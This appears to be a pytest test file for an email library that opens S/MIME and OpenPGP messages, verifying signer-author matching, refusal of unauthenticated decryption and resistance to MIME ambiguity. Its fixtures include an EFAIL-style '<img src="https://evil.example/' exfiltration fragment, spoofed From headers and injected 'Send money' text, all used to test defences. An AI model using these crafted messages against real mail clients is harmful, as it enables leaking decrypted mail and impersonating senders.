"""Received messages opened: what is proven is said, and nothing else is."""

from __future__ import annotations

import re
import time
from collections.abc import Sequence

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from posthouse.message import mime
from posthouse.message.fields import read_section
from posthouse.mimesec import layers
from posthouse.mimesec.findings import Scheme, SignatureResult
from posthouse.mimesec.header_protection import FieldState, HeaderScheme
from posthouse.mimesec.opening import (
    REFUSED,
    Opened,
    SectionKind,
    Summary,
    open_message,
)
from posthouse.mimesec.protection import Protection, protect
from tests.mimesec.fakes import (
    NOW,
    FakeOpaqueSigner,
    FakeOpener,
    FakeRecipient,
    FakeSealer,
    FakeSigner,
    digest,
    pgp_mime,
    smime,
)

HEAD = b"From: Alice <alice@a.example>\r\nTo: Bob <bob@b.example>\r\nSubject: Tea\r\n"
TEXT = b"Content-Type: text/plain\r\n\r\nAt five?\r\n"
MESSAGE = HEAD + TEXT
BOB = FakeRecipient("bob@b.example")
BOB_SMIME = FakeRecipient("bob@b.example", Scheme.SMIME)
SIGNED = FakeSigner().sign(TEXT, at=NOW)
SEALED = FakeSealer().seal(TEXT, [BOB], at=NOW, signer=None)


def opened(octets: bytes, *keys: str, allow: bool = False) -> Opened:
    scheme_openers = [FakeOpener(*(keys or ("bob@b.example",)), scheme=one) for one in Scheme]
    return open_message(octets, scheme_openers, at=NOW, allow_unauthenticated=allow)


def protected(message: bytes = MESSAGE, **how: object) -> bytes:
    return protect(message, Protection(**how), at=NOW)  # type: ignore[arg-type]


def mixed(*parts: bytes, kind: bytes = b"mixed", head: bytes = HEAD, edge: bytes = b"out") -> bytes:
    inside = b"".join(b"--%b\r\n%b\r\n" % (edge, part) for part in parts)
    content_type = b'Content-Type: multipart/%b; boundary="%b"\r\n\r\n' % (kind, edge)
    return b"%b%b%b--%b--\r\n" % (head, content_type, inside, edge)


# --- what is around the whole message ---


def test_a_plain_message_is_as_it_came() -> None:
    found = opened(MESSAGE)
    assert found == Opened(octets=MESSAGE, summary=Summary.NOT_PROTECTED)
    assert found.whole is None


def test_a_signed_message_is_shown_without_its_wrapping() -> None:
    found = opened(protected(signer=FakeSigner()))
    assert found.summary is Summary.SIGNED
    assert found.octets == HEAD + b"MIME-Version: 1.0\r\n" + TEXT
    assert found.whole is not None
    assert found.whole.signatures[0].result is SignatureResult.VALID
    assert found.header_scheme is HeaderScheme.RFC_9788
    assert {one.state for one in found.fields} == {FieldState.SIGNED_ONLY}


def test_an_encrypted_message_has_its_subject_again() -> None:
    found = opened(protected(sealer=FakeSealer(), recipients=(BOB,)))
    assert found.summary is Summary.ENCRYPTED
    assert read_section(found.octets).first(b"subject") == b"Tea"
    assert found.octets.endswith(b"\r\n\r\nAt five?\r\n")
    assert b"legacy-display" not in found.octets
    states = {one.name: one.state for one in found.fields}
    assert states["Subject"] is FieldState.ENCRYPTED_ONLY
    assert states["From"] is FieldState.UNPROTECTED


@pytest.mark.parametrize("scheme", list(Scheme))
def test_signed_and_encrypted(scheme: Scheme) -> None:
    found = opened(
        protected(
            signer=FakeSigner(scheme=scheme),
            sealer=FakeSealer(scheme),
            recipients=(FakeRecipient("bob@b.example", scheme),),
        )
    )
    assert found.summary is Summary.SIGNED_AND_ENCRYPTED
    states = {one.name: one.state for one in found.fields}
    assert states["Subject"] is FieldState.SIGNED_AND_ENCRYPTED
    assert states["From"] is FieldState.SIGNED_ONLY
    assert found.whole is not None and found.whole.is_authenticated


def test_an_opaque_signature_is_a_signature() -> None:
    found = opened(protected(signer=FakeOpaqueSigner(), is_opaque=True))
    assert found.summary is Summary.SIGNED
    assert found.whole is not None and not found.whole.encryptions
    assert found.octets.endswith(b"At five?\r\n")


def test_without_header_protection_the_fields_are_those_outside() -> None:
    found = opened(protected(signer=FakeSigner(), header_policy=None))
    assert found.summary is Summary.SIGNED
    assert found.fields == () and found.header_scheme is None
    assert found.octets == HEAD + b"MIME-Version: 1.0\r\n" + TEXT


@pytest.mark.parametrize(
    "claim", [b"", b'; hp="cipher"', b'; protected-headers="v1"'], ids=["none", "RFC 9788", "draft"]
)
def test_keys_of_others_outside_the_encryption_are_not_shown(claim: bytes) -> None:
    """Else they would pass for those that its author put inside."""
    outside = b"Autocrypt-Gossip: addr=bob@b.example; keydata=\r\n"
    payload = b"Subject: Tea\r\nContent-Type: text/plain%b\r\n\r\nAt five?\r\n" % claim
    found = opened(outside + HEAD + FakeSealer().seal(payload, [BOB], at=NOW, signer=None))
    assert found.summary is Summary.ENCRYPTED and b"At five?" in found.octets
    assert outside not in found.octets
    assert outside in opened(outside + MESSAGE).octets


def test_a_message_that_stays_closed_is_as_it_came_and_says_why() -> None:
    message = protected(sealer=FakeSealer(), recipients=(BOB,))
    found = opened(message, "carol@c.example")
    assert found.summary is Summary.BROKEN
    assert found.octets == message
    assert found.whole is not None
    assert "any of the keys" in found.whole.reason and found.whole.entity == b""
    assert found.whole.encryptions[0].recipients == ("BOB@B.EXAMPLE",)
    none = open_message(message, [], at=NOW)
    assert none.whole is not None and "there is no key of OpenPGP here" in none.whole.reason


def test_what_was_changed_is_not_signed_and_no_worse_than_unsigned() -> None:
    message = protected(signer=FakeSigner()).replace(b"At five", b"At nine")
    found = opened(message)
    assert found.summary is Summary.NOT_PROTECTED
    assert found.whole is not None
    assert found.whole.signatures[0].result is SignatureResult.INVALID
    assert {one.state for one in found.fields} == {FieldState.UNPROTECTED}


def test_line_ends_that_became_bare_do_not_break_a_signature() -> None:
    message = protected(signer=FakeSigner()).replace(b"\r\n", b"\n")
    assert opened(message).summary is Summary.SIGNED


def test_a_signature_around_an_encryption_says_nothing_of_the_content() -> None:
    inner = FakeSealer().seal(TEXT, [BOB], at=NOW, signer=None)
    found = opened(HEAD + FakeSigner().sign(inner, at=NOW))
    assert found.summary is Summary.ENCRYPTED
    assert found.whole is not None
    assert found.whole.signatures == ()
    assert found.whole.outer_signatures[0].result is SignatureResult.VALID


def test_triple_wrapping_counts_the_inner_signature() -> None:
    inner = FakeSealer().seal(SIGNED, [BOB], at=NOW, signer=None)
    found = opened(HEAD + FakeSigner().sign(inner, at=NOW))
    assert found.summary is Summary.SIGNED_AND_ENCRYPTED


def test_fields_in_a_signed_part_are_no_fields_of_the_message() -> None:
    evil = FakeSigner().sign(b"From: boss@a.example\r\n" + TEXT, at=NOW)
    found = opened(HEAD + evil)
    assert read_section(found.octets).every(b"from") == [b"Alice <alice@a.example>"]


# --- H65: signatures and their author ---


# H65
def test_a_signature_by_another_address_than_from_is_none() -> None:
    found = opened(protected(signer=FakeSigner("mallory@evil.example")))
    assert found.summary is Summary.NOT_PROTECTED
    assert found.whole is not None
    (signature,) = found.whole.signatures
    assert signature.result is SignatureResult.MISMATCH
    assert "from alice@a.example, the key is of mallory@evil.example" in signature.reason


# H65
@pytest.mark.parametrize(
    ("head", "words"),
    [
        (b"From: mallory@evil.example\r\nFrom: alice@a.example\r\n", "more than one From field"),
        (b"From: alice@a.example\r\nFrom: mallory@evil.example\r\n", "more than one From field"),
        (b"From: alice@a.example, mallory@evil.example\r\n", "the key is of alice"),
        (b"Subject: x\r\n", "no From field"),
        (b"From: nobody:;\r\n", "no From address"),
        (b'From: "alice@a.example" <mallory@evil.example>\r\n', "from mallory@evil.example"),
    ],
)
def test_authors_that_a_signature_does_not_prove(head: bytes, words: str) -> None:
    found = opened(head + SIGNED)
    assert found.summary is Summary.NOT_PROTECTED
    assert found.whole is not None
    assert found.whole.signatures[0].result is SignatureResult.MISMATCH
    assert words in found.whole.signatures[0].reason


def test_case_and_spelling_of_an_address_do_not_matter() -> None:
    assert opened(b"From: ALICE@A.Example\r\n" + SIGNED).summary is Summary.SIGNED


def test_a_caller_may_know_the_author_better() -> None:
    openers = [FakeOpener()]
    found = open_message(
        b"From: list@l.example\r\n" + SIGNED,
        openers,
        at=NOW,
        from_addresses=["alice@a.example"],
    )
    assert found.summary is Summary.SIGNED
    found = open_message(HEAD + SIGNED, openers, at=NOW, from_addresses=["bob@b.example"])
    assert found.summary is Summary.NOT_PROTECTED
    two = b"From: a@b.example\r\n" + HEAD + SIGNED
    found = open_message(two, openers, at=NOW, from_addresses=["alice@a.example"])
    assert found.summary is Summary.NOT_PROTECTED


def test_an_untrusted_signature_stays_untrusted() -> None:
    message = protected(
        MESSAGE.replace(b"alice@", b"stranger@"), signer=FakeSigner("stranger@a.example")
    )
    found = opened(message)
    assert found.summary is Summary.NOT_PROTECTED
    assert found.whole is not None
    assert found.whole.signatures[0].result is SignatureResult.UNTRUSTED


# H65
def test_another_author_outside_than_inside_is_shown_outside_unless_the_signature_is_his() -> None:
    spoofed = protected(
        MESSAGE.replace(b"alice@a.example", b"boss@a.example"),
        sealer=FakeSealer(),
        recipients=(BOB,),
    )
    message = spoofed.replace(b"From: Alice <boss@a.example>", b"From: mallory@evil.example", 1)
    found = opened(message)
    assert found.has_outer_from and found.from_mismatch is not None
    assert found.from_mismatch.inner == ("boss@a.example",)
    assert read_section(found.octets).every(b"from") == [b"mallory@evil.example"]
    # A list that writes its own From, around what the author signed.
    listed = protected(signer=FakeSigner()).replace(
        b"From: Alice <alice@a.example>", b"From: Alice by list <list@l.example>", 1
    )
    found = opened(listed)
    assert found.summary is Summary.SIGNED
    assert found.from_mismatch is not None and not found.has_outer_from
    assert read_section(found.octets).every(b"from") == [b"Alice <alice@a.example>"]


# H65
def test_a_nested_signature_is_compared_with_the_author_that_is_shown() -> None:
    inner = (
        b"From: alice@a.example\r\nContent-Type: multipart/mixed; hp=clear; boundary=i\r\n\r\n"
        b"--i\r\n" + SIGNED + b"\r\n--i--\r\n"
    )
    broken = FakeSigner("nobody@x.example").sign(inner, at=NOW)
    # The inner one's delimiters are its own.
    broken = broken.replace(b'boundary="sig"', b'boundary="top"', 1)
    broken = broken.replace(b"--sig", b"--top", 1)
    head, _, tail = broken.rpartition(b"--sig\r\n")
    broken = head + b"--top\r\n" + tail.replace(b"--sig--", b"--top--")
    found = opened(b"From: mallory@evil.example\r\n" + broken)
    assert found.has_outer_from
    assert found.summary is Summary.NOT_PROTECTED
    assert found.sections[1].signatures[0].result is SignatureResult.MISMATCH


# --- H65: EFAIL ---

LEAK = b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/'
CLOSE = b'Content-Type: text/html\r\n\r\n">'


# H65
@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative", b"digest", b"signed"])
def test_an_encrypted_part_is_never_decrypted_into_what_surrounds_it(kind: bytes) -> None:
    message = mixed(LEAK, SEALED, CLOSE, kind=kind)
    found = opened(message)
    assert found.octets == message
    assert found.summary is Summary.PARTLY
    assert found.whole is None
    (section,) = found.sections
    assert (section.kind, section.path) == (SectionKind.PART, "2")
    assert section.summary is Summary.ENCRYPTED
    assert section.entity == TEXT
    assert b"At five" not in found.octets


# H65
def test_an_encrypted_part_inside_an_encrypted_message_stays_apart() -> None:
    inside = mixed(LEAK, SEALED, CLOSE, head=b"")
    message = HEAD + FakeSealer().seal(inside, [BOB], at=NOW, signer=None)
    found = opened(message)
    assert found.summary is Summary.ENCRYPTED
    assert b"At five" not in found.octets and b"evil.example" in found.octets
    assert [one.path for one in found.sections] == ["", "2"]


# H65
def test_a_signed_part_inside_a_larger_message_signs_that_part_only() -> None:
    footer = b"Content-Type: text/plain\r\n\r\nSend money.\r\n"
    message = mixed(SIGNED, footer)
    found = opened(message)
    assert found.summary is Summary.PARTLY
    assert found.octets == message
    (section,) = found.sections
    assert section.summary is Summary.SIGNED and section.path == "1"
    assert section.entity == TEXT


# H65
def test_a_third_part_in_a_multipart_signed_makes_it_none() -> None:
    extra = SIGNED.replace(
        b"--sig--", b"--sig\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n--sig--"
    )
    assert opened(HEAD + extra).summary is Summary.NOT_PROTECTED
    first = SIGNED.replace(
        b"\r\n--sig\r\n",
        b"\r\n--sig\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n--sig\r\n",
        1,
    )
    assert opened(HEAD + first).summary is Summary.NOT_PROTECTED


# H65
@pytest.mark.parametrize("edge", [b"--sig" + b" " * 300, b"--sigs", b"--sig-- \r\n--sig", b"stray"])
def test_a_third_part_that_only_others_see_makes_it_none(
    edge: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    if edge == b"stray":
        monkeypatch.setattr(mime, "STRAY_LINES_MAX", 100)
        edge = b"---\r\n" * 101 + b"--sig"
    third = b"%b\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n--sig--" % edge
    message = HEAD + SIGNED.replace(b"--sig--", third)
    assert opened(message).summary is Summary.NOT_PROTECTED


# H65, RFC 2045 §6.4
def test_a_multipart_that_says_it_is_encoded_is_no_layer() -> None:
    encoded = b"Content-Transfer-Encoding: base64\r\n"
    for entity in (SIGNED, SEALED):
        assert opened(HEAD + encoded + entity).summary is Summary.NOT_PROTECTED
        assert opened(mixed(encoded + entity)).sections == ()
        forwarded = b"Content-Type: message/rfc822\r\n%b\r\n" + HEAD + entity
        assert len(opened(mixed(forwarded % b"")).sections) == 1
        assert opened(mixed(forwarded % encoded)).sections == ()


# H34, H65
@pytest.mark.parametrize("stray", [b"Send money.\r\n", b" \r\n"])
def test_a_line_among_the_fields_that_is_none_is_no_signer_s(stray: bytes) -> None:
    for octets in (HEAD + SIGNED, protected(signer=FakeSigner())):
        assert opened(octets).summary is Summary.SIGNED
        whole = opened(octets.replace(b"Subject: ", b"A: b\r\n%bSubject: " % stray, 1)).whole
        assert whole is not None and whole.summary is Summary.NOT_PROTECTED
        (signature,) = whole.signatures
        assert signature.result is SignatureResult.MISMATCH and "is none" in signature.reason


# H34, H65
def test_a_line_that_is_no_field_in_front_of_a_signature_inside_makes_it_none() -> None:
    """Readers for whom the header section ends there show that line, and no signature."""
    assert len(opened(mixed(SIGNED)).sections) == 1
    assert opened(mixed(b"A: b\r\nSend money.\r\n" + SIGNED)).sections == ()
    stray = mixed(SIGNED).replace(b"Content-Type", b"Send money.\r\nContent-Type", 1)
    assert opened(stray).sections == ()
    inner = re.sub(rb"(--|boundary=\"?)sig", rb"\1inner", SIGNED)
    for stray in (b"", b"A: b\r\nSend money.\r\n"):
        around = FakeSigner("mallory@m.example").sign(stray + inner, at=NOW)
        whole = opened(HEAD + around).whole
        assert whole is not None and len(whole.signatures) == 1 + (not stray)
    assert whole is not None and whole.summary is Summary.NOT_PROTECTED
    assert [one.addresses for one in whole.signatures] == [("mallory@m.example",)]


# H29, H65
@pytest.mark.parametrize("name", [b"boundary", b"protocol"])
def test_a_parameter_that_can_be_read_in_two_ways_makes_no_layer(name: bytes) -> None:
    said = SIGNED.replace(b"multipart/signed;", b"multipart/signed; %b*0=other;" % name)
    assert opened(HEAD + said).summary is Summary.NOT_PROTECTED
    inside = opened(mixed(b"Content-Type: text/plain\r\n\r\nlook\r\n", said))
    assert inside.sections == ()


# H29, H65
def test_nothing_is_said_of_parts_that_others_may_divide_in_another_way() -> None:
    letter = mixed(SIGNED, SEALED)
    assert len(opened(letter).sections) == 2
    doubtful = letter.replace(b"boundary=", b"boundary*0=other; boundary=", 1)
    assert opened(doubtful) == Opened(octets=doubtful, summary=Summary.NOT_PROTECTED)
    around = mixed(b"Content-Type: message/rfc822\r\n\r\n" + doubtful, edge=b"around")
    assert opened(around).sections == ()


# H65
def test_two_content_types_make_no_layer() -> None:
    message = b"Content-Type: text/html\r\n" + HEAD + SIGNED
    assert opened(message).summary is Summary.NOT_PROTECTED
    message = HEAD + SIGNED.replace(b"\r\n\r\n", b"\r\nContent-Type: text/html\r\n\r\n", 1)
    assert opened(message).summary is Summary.NOT_PROTECTED


# H65
@pytest.mark.parametrize("scheme", list(Scheme))
def test_unauthenticated_decryption_is_refused(scheme: Scheme) -> None:
    sealer = FakeSealer(scheme, is_authenticated=False)
    message = protected(sealer=sealer, recipients=(FakeRecipient("bob@b.example", scheme),))
    found = opened(message)
    assert found.summary is Summary.BROKEN
    assert found.octets == message
    assert found.whole is not None
    assert found.whole.reason == REFUSED and found.whole.entity == b""
    assert found.whole.encryptions[0].is_opened
    # Whoever asks for it gets it with a mark.
    allowed = opened(message, allow=True)
    assert allowed.summary is Summary.ENCRYPTED
    assert allowed.whole is not None and not allowed.whole.is_authenticated
    assert b"At five" in allowed.octets


# H65
def test_a_valid_signature_inside_proves_that_nobody_changed_the_ciphertext() -> None:
    sealer = FakeSealer(Scheme.SMIME, is_authenticated=False)
    how = {"sealer": sealer, "recipients": (BOB_SMIME,)}
    found = opened(protected(signer=FakeSigner(scheme=Scheme.SMIME), **how))
    assert found.summary is Summary.SIGNED_AND_ENCRYPTED
    mallory = FakeSigner("mallory@evil.example", Scheme.SMIME)
    assert opened(protected(signer=mallory, **how)).summary is Summary.BROKEN


# H65
def test_what_trust_would_open_says_so() -> None:
    """RFC 8551 §3.3: CBC does not tell of changes, so whom one trusts decides."""
    how = {"sealer": FakeSealer(Scheme.SMIME, is_authenticated=False), "recipients": (BOB_SMIME,)}
    stranger = FakeSigner("stranger@a.example", Scheme.SMIME)
    author = MESSAGE.replace(b"alice@", b"stranger@")
    found = opened(protect(author, Protection(signer=stranger, **how), at=NOW))  # type: ignore[arg-type]
    assert found.summary is Summary.BROKEN and found.whole is not None
    assert found.whole.reason.startswith(REFUSED)
    assert "the signature of stranger@a.example inside would prove it" in found.whole.reason
    assert "nobody vouches for its key (ABABABABABABABAB)" in found.whole.reason
    # Of another author's message trust would open nothing.
    found = opened(protected(signer=stranger, **how))
    assert found.whole is not None and found.whole.reason == REFUSED


# H65
def test_unauthenticated_parts_are_refused_too() -> None:
    part = FakeSealer(Scheme.SMIME, is_authenticated=False).seal(
        TEXT, [BOB_SMIME], at=NOW, signer=None
    )
    found = opened(mixed(TEXT, part))
    assert found.summary is Summary.PARTLY
    assert found.sections[0].summary is Summary.BROKEN and found.sections[0].entity == b""


# H65
def test_changed_authenticated_ciphertext_does_not_open() -> None:
    inside = b"SEALED AEAD BOB@B.EXAMPLE %b\n%b" % (digest(TEXT, "key"), TEXT)
    assert opened(HEAD + pgp_mime(inside)).summary is Summary.ENCRYPTED
    assert opened(HEAD + pgp_mime(inside + b"<img>")).summary is Summary.BROKEN


# --- forwarded messages ---


def test_a_forwarded_message_has_its_own_state_and_gives_none_to_the_other() -> None:
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + protected(signer=FakeSigner())
    found = opened(mixed(TEXT, forwarded, head=b"From: carol@c.example\r\n"))
    assert found.summary is Summary.NOT_PROTECTED
    (section,) = found.sections
    assert (section.kind, section.path) == (SectionKind.FORWARDED, "2")
    assert section.summary is Summary.SIGNED


def test_parts_of_forwarded_messages_are_counted_as_imap_does() -> None:
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + mixed(TEXT, SEALED, edge=b"in")
    found = opened(mixed(TEXT, forwarded))
    assert [(one.kind, one.path) for one in found.sections] == [(SectionKind.PART, "2.2")]
    deeper = b"Content-Type: message/rfc822\r\n\r\n" + HEAD + forwarded
    found = opened(mixed(TEXT, deeper))
    assert [one.path for one in found.sections] == ["2.1.2"]


# --- other forms ---


def test_older_header_protection_is_read() -> None:
    inside = b"Content-Type: message/rfc822\r\n\r\n" + MESSAGE
    outside = b"Subject: ...\r\nFrom: alice@a.example\r\n"
    found = opened(outside + FakeSigner().sign(inside, at=NOW))
    assert found.header_scheme is HeaderScheme.RFC_8551
    assert found.summary is Summary.SIGNED
    assert read_section(found.octets).first(b"subject") == b"Tea"
    assert found.octets.endswith(b"\r\n\r\nAt five?\r\n")


def test_what_is_only_packed_is_unpacked_and_not_called_protected() -> None:
    class Unpacking(FakeOpener):
        def unseal(self, sealed, *, at):  # type: ignore[no-untyped-def]
            found = super().unseal(b"SIGNED x y\n" + sealed, at=at)
            return msgspec.structs.replace(found, signatures=())

    message = HEAD + smime(TEXT, "compressed-data")
    found = open_message(message, [Unpacking(scheme=Scheme.SMIME)], at=NOW)
    assert found.summary is Summary.NOT_PROTECTED
    assert found.octets.endswith(b"At five?\r\n")


def test_certificates_alone_are_no_layer() -> None:
    message = HEAD + smime(b"SIGNED x y\n", "certs-only")
    assert opened(message) == Opened(octets=message, summary=Summary.NOT_PROTECTED)


def test_octets_named_p7m_are_opened() -> None:
    inside = smime(b"SEALED AEAD BOB@B.EXAMPLE %b\n%b" % (digest(TEXT, "key"), TEXT), "x")
    message = HEAD + inside.replace(
        b"application/pkcs7-mime; smime-type=x", b"application/octet-stream"
    )
    assert opened(message).summary is Summary.ENCRYPTED


def layered(count: int) -> bytes:
    entity = TEXT
    for _ in range(count):
        entity = FakeSealer(Scheme.SMIME).seal(entity, [BOB_SMIME], at=NOW, signer=None)
    return HEAD + entity


def test_eight_layers_are_opened_and_nine_are_not() -> None:
    assert opened(layered(8)).summary is Summary.ENCRYPTED
    found = opened(layered(9))
    assert found.summary is Summary.BROKEN
    assert found.whole is not None and "more than 8 layers" in found.whole.reason


def test_openers_are_asked_a_bounded_number_of_times() -> None:
    opener = FakeOpener("bob@b.example")
    found = open_message(mixed(*[SEALED] * 500), [opener], at=NOW)
    assert opener.calls <= layers.CALLS_MAX
    assert len(found.sections) == 32
    many = [FakeOpener("x") for _ in range(1000)]
    open_message(HEAD + SEALED, many, at=NOW)
    assert sum(one.calls for one in many) == layers.CALLS_MAX


# --- inline OpenPGP ---


def clear_signed(text: bytes, address: str = "alice@a.example") -> bytes:
    lines = text.removesuffix(b"\r\n").split(b"\r\n")
    signed = b"\r\n".join(line.rstrip(b" \t") for line in lines)
    escaped = b"\r\n".join(b"- " + one if one[:1] == b"-" else one for one in lines)
    signature = b"%b %b" % (address.encode(), digest(signed, address))
    return (
        b"-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n%b\r\n"
        b"-----BEGIN PGP SIGNATURE-----\r\n\r\n%b\r\n-----END PGP SIGNATURE-----\r\n"
    ) % (escaped, signature)


class InlineOpener(FakeOpener):
    """Takes the armour off."""

    def verify(self, signed, signature, *, at):  # type: ignore[no-untyped-def]
        inner = signature.partition(b"\r\n\r\n")[2].partition(b"\r\n-----END")[0]
        return super().verify(signed, inner or signature, at=at)


def opened_inline(octets: bytes) -> Opened:
    return open_message(octets, [InlineOpener("bob@b.example")], at=NOW)


PLAIN = HEAD + b"Content-Type: text/plain; charset=utf-8\r\n\r\n"


def test_a_text_that_is_all_signed_is_shown_as_the_text() -> None:
    found = opened_inline(PLAIN + clear_signed(b"At five? \r\n- yes\r\n-- \r\nAlice\r\n"))
    assert found.summary is Summary.SIGNED
    body = mime.content(mime.scan(found.octets), octets_max=999)
    assert body == b"At five?\r\n- yes\r\n--\r\nAlice"


# H65
def test_text_around_a_signed_text_is_never_signed() -> None:
    message = PLAIN + b"Send money.\r\n\r\n" + clear_signed(b"Yes\r\n")
    found = opened_inline(message)
    assert found.summary is Summary.PARTLY and found.octets == message
    (section,) = found.sections
    assert section.kind is SectionKind.TEXT and section.path == "1"
    assert section.entity.endswith(b"\r\n\r\nYes")


# H65
@pytest.mark.parametrize(
    "evil",
    [
        b"Hash: SHA256\r\nComment: Send money.\r\n",
        b"Hash: SHA256\r\nSend money.\r\n",
        b"Hash: SHA256\r\nHash: Send 1000 to account DE12-3456, today\r\n",
        b"Hash: SHA256, Send money\r\n",
        b"Hash: SHA256 Send money\r\n",
        b"SaltedHash: Send money\r\n",
        b"Hash: SHA256\r\n\r\n-Send money.\r\n",
    ],
)
def test_text_in_the_fields_of_a_signed_text_makes_it_none(evil: bytes) -> None:
    message = PLAIN + clear_signed(b"Yes\r\n").replace(b"Hash: SHA256\r\n", evil)
    assert opened_inline(message).summary is Summary.NOT_PROTECTED


@pytest.mark.parametrize(
    "fields", [b"", b"Hash: SHA1,SHA3-512\r\n", b"Hash: sha256 \r\nhash:  MD5, RIPEMD160\r\n"]
)
def test_names_of_hashes_are_the_only_fields_of_a_signed_text(fields: bytes) -> None:
    message = PLAIN + clear_signed(b"Yes\r\n").replace(b"Hash: SHA256\r\n", fields)
    assert opened_inline(message).summary is Summary.SIGNED


def test_an_encrypted_text_is_opened_alone_and_apart_beside_other_text() -> None:
    armour = mime.content(mime.scan(HEAD + SEALED).children[1], octets_max=9999)
    found = opened_inline(PLAIN + armour)
    assert found.summary is Summary.ENCRYPTED
    assert mime.content(mime.scan(found.octets), octets_max=999) == TEXT
    message = PLAIN + b'<img src="' + b"\r\n" + armour + b"\r\n>"
    found = opened_inline(message)
    assert found.summary is Summary.PARTLY and found.octets == message
    html = message.replace(b"text/plain", b"text/html")
    assert opened_inline(html).summary is Summary.NOT_PROTECTED


@pytest.mark.timed
@pytest.mark.parametrize(
    "text",
    [
        b"-----BEGIN PGP MESSAGE-----\r\n" * 20_000,
        b"-----BEGIN PGP SIGNED MESSAGE-----\r\n-----BEGIN PGP SIGNATURE-----\r\n" * 10_000,
        clear_signed(b"x\r\n") * 2_000,
        b"-----END PGP SIGNATURE-----\r\n" * 20_000,
    ],
)
def test_many_blocks_cost_little(text: bytes) -> None:
    began = time.process_time()
    found = opened_inline(PLAIN + text)
    assert time.process_time() - began < 2
    assert len(found.sections) <= 32


# --- properties ---

PIECES = st.sampled_from(
    [
        TEXT,
        SIGNED,
        SEALED,
        LEAK,
        HEAD,
        b"\r\n",
        b"--out\r\n",
        b"--out--\r\n",
        b"--sig\r\n",
        b"--enc\r\n",
        b'Content-Type: multipart/mixed; boundary="out"\r\n\r\n',
        b'Content-Type: multipart/signed; boundary="out"\r\n\r\n',
        b"Content-Type: message/rfc822\r\n\r\n",
        b"Content-Type: application/pkcs7-mime\r\n\r\n",
        b"Content-Type: text/plain; hp=cipher; hp-legacy-display=1\r\n\r\n",
        clear_signed(b"x\r\n"),
        smime(SIGNED, "enveloped-data"),
        b"-----BEGIN PGP MESSAGE-----\r\n",
        b"\xff\x00",
    ]
)


def check_promises(octets: bytes, found: Opened) -> None:
    assert len(found.sections) <= 33
    if found.whole is None:
        assert found.octets == octets
        assert found.summary in (Summary.NOT_PROTECTED, Summary.PARTLY)
    for section in found.sections:
        assert bool(section.reason) is (section.summary is Summary.BROKEN)
        assert not (section.reason and section.entity)


@given(st.lists(PIECES, max_size=12))
@settings(max_examples=300, deadline=None)
def test_no_message_makes_it_raise(pieces: Sequence[bytes]) -> None:
    octets = b"".join(pieces)
    check_promises(octets, opened(octets))
    check_promises(octets, opened(octets, allow=True))


@given(st.binary(max_size=400))
def test_no_octets_make_it_raise(octets: bytes) -> None:
    for head in (b"", HEAD + b"Content-Type: application/pkcs7-mime\r\n\r\n"):
        check_promises(head + octets, opened(head + octets))


@pytest.mark.timed
@pytest.mark.parametrize(
    "make",
    [
        lambda n: mixed(*[SEALED] * n),
        lambda n: mixed(*[SIGNED] * n),
        lambda n: HEAD + b"Content-Type: message/rfc822\r\n\r\n" * n,
        lambda n: mixed(*[b"Content-Type: text/plain\r\n\r\n" + clear_signed(b"x\r\n")] * n),
        lambda n: HEAD + b'Content-Type: multipart/signed; boundary="b"\r\n\r\n' + b"--b\r\n" * n,
    ],
)
def test_the_cost_is_linear(make) -> None:  # type: ignore[no-untyped-def]
    def cost(count: int) -> float:
        octets = make(count)
        times = []
        for _ in range(3):
            began = time.process_time()
            opened(octets)
            times.append(time.process_time() - began)
        return min(times)

    small, large = cost(1_000), cost(8_000)
    assert large < max(small, 0.005) * 8 * 4
